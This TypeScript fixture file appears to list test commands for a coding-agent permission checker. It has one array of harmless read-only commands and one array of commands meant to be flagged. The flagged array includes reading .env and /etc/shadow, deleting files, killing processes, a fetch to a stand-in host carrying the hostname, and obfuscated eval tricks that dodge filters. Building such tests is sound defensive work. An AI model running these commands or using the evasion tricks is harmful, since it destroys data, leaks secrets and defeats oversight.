/**
 * Commands with code on the command line and lookups, as coding agents issue them when they read a project. They were
 * written before the tables were compared with them. None changes a file, needs the network or shows a private file.
 */
export const CODE_READERS: readonly string[] = [
  `node -e "const fs = require('fs'); console.log(fs.readdirSync('src').length)"`,
  `node -e "console.log(require('fs').readdirSync('src').filter(f => f.endsWith('.ts')).join('\\n'))"`,
  `node -e "const { dependencies } = require('./package.json'); console.log(Object.keys(dependencies || {}))"`,
  `node -e "const { name, version } = require('./package.json'); console.log(name + '@' + version)"`,
  `node -e "const p = require('./package.json'); console.log({ ...p.dependencies, ...p.devDependencies })"`,
  `node -e "const p=require('./package.json'); for (const [k,v] of Object.entries(p.scripts)) console.log(k, v)"`,
  `node -e "const p=require('./package.json'); Object.entries(p.scripts).forEach(([k, v]) => console.log(k + ': ' + v))"`,
  `node -p "Object.keys(require('./package.json').scripts).map(s => s.length)"`,
  `node -p "require('fs').readFileSync('README.md', 'utf8').split('\\n').length"`,
  `node -p "require('fs').readFileSync('src/a.ts', 'utf8').match(/export/g).length"`,
  `node -p "require('fs').existsSync('src/a.ts')"`,
  `node -p "require('fs').statSync('README.md').size"`,
  `node -e "const fs=require('fs'); for (const f of fs.readdirSync('src')) { if (!f.endsWith('.ts')) continue; console.log(f, fs.readFileSync('src/a.ts','utf8').split('\\n').length) }"`,
  `node -e "const path=require('path'); console.log(path.extname('src/a.ts'), path.basename('src/a.ts'))"`,
  `node -e "const t=require('fs').readFileSync('package.json','utf8'); console.log(JSON.parse(t).version)"`,
  `node -e "let n = 0; for (const l of require('fs').readFileSync('README.md','utf8').split('\\n')) if (l.startsWith('#')) n++; console.log(n)"`,
  "node -e 'const {scripts = {}} = require(\"./package.json\"); console.log(`${Object.keys(scripts).length} scripts`)'",
  `node -e "console.log([1,2,3].map(x => x * 2))"`,
  `node -e "console.log(new Date(0).toISOString())"`,
  `node -e "console.log(Math.max(...[3,1,2]))"`,
  `node --input-type=module -e "import fs from 'node:fs'; console.log(fs.readdirSync('.').length)"`,
  `node -e "const fs=require('fs'); const j=JSON.parse(fs.readFileSync('package.json')); console.log(j.name ?? 'none')"`,
  `node -e "const a=require('./package.json').scripts||{}; console.table(a)"`,
  `node -e "process.stdout.write(require('./package.json').version)"`,
  `python3 -c "import json; print(json.load(open('package.json'))['version'])"`,
  `python3 -c "
import json
def walk(d, depth=0):
    for k, v in d.items():
        print('  ' * depth + k)
        if isinstance(v, dict):
            walk(v, depth + 1)
walk(json.load(open('package.json')))
"`,
  `python3 -c "
import os
n = 0
while n < 3:
    print(n)
    n += 1
"`,
  `python3 -c "print([len(l) for l in open('README.md')])"`,
  `python3 -c "
lines = [l.strip() for l in open('src/a.ts') if 'import' in l]
print(lines)
"`,
  `python3 -c "
import re
def count(path):
    with open(path) as f:
        return len(re.findall(r'export', f.read()))
print(count('src/a.ts'))
"`,
  `python3 - <<'PY'
import json
d = json.load(open('package.json'))
for k in sorted(d):
    print(k)
PY`,
  `python3 - <<'PY'
from pathlib import Path
for p in sorted(Path('src').glob('*.ts')):
    print(p, len(p.read_text().splitlines()))
PY`,
  `python3 -c "import sys; print(sys.version)"`,
  `python3 -c "import os; print(os.listdir('src'))"`,
  `python3 -c "
import os
for root, dirs, files in os.walk('src'):
    for f in files:
        print(os.path.join(root, f))
"`,
  `python3 -c "
from collections import Counter
print(Counter(open('README.md').read().split()).most_common(3))
"`,
  `python3 -c "
import csv
with open('README.md') as f:
    for row in csv.reader(f):
        print(row)
"`,
  `python3 -c "
class A:
    x = 1
print(A.x)
"`,
  `python3 -c "import ast; print([n.name for n in ast.walk(ast.parse('def f(): pass')) if isinstance(n, ast.FunctionDef)])"`,
  `python3 -c "print(sum(1 for _ in open('README.md')))"`,
  `cat $(git ls-files | head -1)`,
  `wc -l $(git ls-files '*.ts')`,
  `head -5 $(find src -name '*.ts')`,
  `grep -n export $(git ls-files 'src/*.ts')`,
  `echo "$(wc -l < README.md) lines"`,
  `echo $(basename $(pwd))`,
  `ls -la $(dirname src/a.ts)`,
  `grep -R "export" src`,
  `grep -R --include='*.ts' -n "import" .`,
  `grep -Rl TODO src | wc -l`,
  `grep -rn "TODO\\|FIXME" src || echo none`,
  `sqlite3 data.db 'select * from users limit 5'`,
  `sqlite3 -header -column data.db "SELECT name FROM sqlite_master WHERE type='table';"`,
  `sqlite3 data.db .tables`,
  `sqlite3 data.db ".schema users"`,
  `sqlite3 -readonly data.db 'select count(*) from users'`,
  `perl -ne 'print if /export/' src/a.ts`,
  `perl -lne 'print $1 if /name": "(.*?)"/' package.json`,
  `ruby -e 'puts File.read("README.md").lines.size'`,
  `ruby -rjson -e 'puts JSON.parse(File.read("package.json"))["version"]'`,
  `jq -r '.scripts | to_entries[] | "\\(.key)=\\(.value)"' package.json`,
  `git show HEAD --stat | tail -3`,
  `diff <(sort README.md) <(sort -u README.md)`,
  `git log --oneline -5 -- src/a.ts`,
  `awk '{s+=NF} END {print s}' README.md`,
  `cut -d: -f1 README.md | sort | uniq -c | sort -rn | head`,
  `test -d src && ls src | wc -l`,
  `for f in $(git ls-files '*.ts'); do wc -l "$f"; done`,
];

/** Commands with code on the command line that change something, start a program, use the network or show a private file. */
export const CODE_EFFECTS: readonly string[] = [
  `node -e "require('fs').writeFileSync('made','x')"`,
  `node -e "const {writeFileSync: w} = require('fs'); w('made','x')"`,
  `node -e "const {['write'+'FileSync']: w} = require('fs'); w('made','x')"`,
  `node -e "require('fs')['append'+'FileSync']('made','x')"`,
  `node -e "require('child_process').execSync('touch made')"`,
  `node -e "const {execSync} = require('node:child_process'); execSync('touch made')"`,
  `node -e "process.mainModule.require('child_process').execSync('touch made')"`,
  `node -e "[].constructor.constructor('return process')().kill(1)"`,
  `node -e "const k='constr'+'uctor'; const F=[][k][k]; const f=Object.fromEntries([['get',F]]).get('process.kill(1)'); Object.fromEntries([['has',f]]).has()"`,
  `node -e "const k='constr'+'uctor'; const F=[][k][k]; ({test: ({get: F}).get('process.kill(1)')}).test()"`,
  `node -e "const k='constr'+'uctor'; const at=[][k][k]; const has=({at}).at('process.kill(1)'); ({has}).has()"`,
  `node -e "const k='constr'+'uctor'; const F=[][k][k]; ({'m\\u0061p': F}).map(x => x)"`,
  `node -e "const k='constr'+'uctor'; const F=[][k][k]; String({toLocaleString: F}, [{join: F}].join())"`,
  `node -e "(()=>{}).constructor('require(\\"fs\\").rmSync(\\"src\\")')()"`,
  `node -e "eval('require(\\'fs\\').unlinkSync(\\'README.md\\')')"`,
  `node -e "import('fs').then(f=>f.writeFileSync('made',''))"`,
  `node -e "new Function('return 1')()"`,
  `node -e "require('./src/evil.js')"`,
  `node -e "const m = './evil'; require(m)"`,
  `node -e "console.log(require('fs').readFileSync('.env','utf8'))"`,
  `node -e "const f='.en'+'v'; console.log(require('fs').readFileSync(f,'utf8'))"`,
  `node -e "for (const f of require('fs').readdirSync('.')) console.log(require('fs').readFileSync(f,'utf8'))"`,
  `node -e "console.log(process.env)"`,
  `node -e "console.log(require('fs').readFileSync('/etc/shadow','utf8'))"`,
  `node -e "fetch('http://x.example/'+require('os').hostname())"`,
  `node -e "require('http').get('http://x.example')"`,
  `node -e "while(true){}"`,
  `node -e "process.kill(1)"`,
  `node -e "const {a = require('fs').rmSync('src')} = {}; console.log(a)"`,
  `node -e "console.log({get a(){ return require('fs').rmSync('src') }}.a)"`,
  `node -r ./evil.js -e "1"`,
  `node --require=./evil.js -p "1"`,
  `node --env-file=.env -p "process.env.TOKEN"`,
  `node -e "console.log(require('fs').openSync('made','w'))"`,
  `node -e "new (require('stream').Writable)(); require('fs').createWriteStream('made')"`,
  `python3 -c "open('made','w')"`,
  `python3 -c "open('made', mode='a').write('x')"`,
  `python3 -c "
def f(p, m='w'):
    return open(p, m)
f('made')
"`,
  `python3 -c "
o = open
o('made', 'w')
"`,
  `python3 -c "
class A:
    def __del__(self):
        __import__('os').system('touch made')
A()
"`,
  `python3 -c "import os; os.system('touch made')"`,
  `python3 -c "[__import__('os').system('touch made') for _ in range(1)]"`,
  `python3 -c "import subprocess; subprocess.run(['touch','made'])"`,
  `python3 -c "getattr(__import__('os'),'sys'+'tem')('touch made')"`,
  `python3 -c "print(open('.env').read())"`,
  `python3 -c "
def f(n):
    print(open(n).read())
f('.e' + 'nv')
"`,
  `python3 -c "import os; print(os.environ)"`,
  `python3 -c "exec('open(\\"made\\",\\"w\\")')"`,
  `python3 -c "from pathlib import Path; Path('made').write_text('x')"`,
  `python3 -c "from pathlib import Path; Path('README.md').unlink()"`,
  `python3 -c "import shutil; shutil.rmtree('src')"`,
  `python3 -c "
x = 'a'
while True:
    x += x
"`,
  `python3 -c "import urllib.request; urllib.request.urlopen('http://x.example')"`,
  `python3 -c "import evil"`,
  `python3 -c "
import sys
sys.path.insert(0, '.')
import evil
"`,
  `cat $(echo .env)`,
  `cat $(find . -name '.e*')`,
  `head -5 $(ls -A | grep env)`,
  `rg $(printf -- '--pre=sh') foo`,
  `wc -l $(touch made; echo README.md)`,
  `grep -n x $(git ls-files | xargs rm)`,
  `grep -R TOKEN .env`,
  `sqlite3 data.db 'delete from users'`,
  `sqlite3 data.db 'select writefile("made", "x")'`,
  `sqlite3 data.db '.output made' 'select 1'`,
  `sqlite3 data.db '.shell touch made'`,
  `sqlite3 data.db "select load_extension('./evil')"`,
  `sqlite3 -cmd '.system touch made' data.db 'select 1'`,
  `sqlite3 data.db "attach 'made.db' as m; create table m.t(x)"`,
  `sqlite3 data.db "select readfile('.env')"`,
  `sqlite3 -init evil.sql data.db 'select 1'`,
  `sqlite3 new.db 'pragma journal_mode=wal'`,
  `perl -e 'open(F,">made")'`,
  `perl -ne 'print; system("touch made")' README.md`,
  `perl -i -pe 's/a/b/' README.md`,
  `ruby -e 'File.write("made","x")'`,
  `ruby -e 'puts File.read(".env")'`,
];
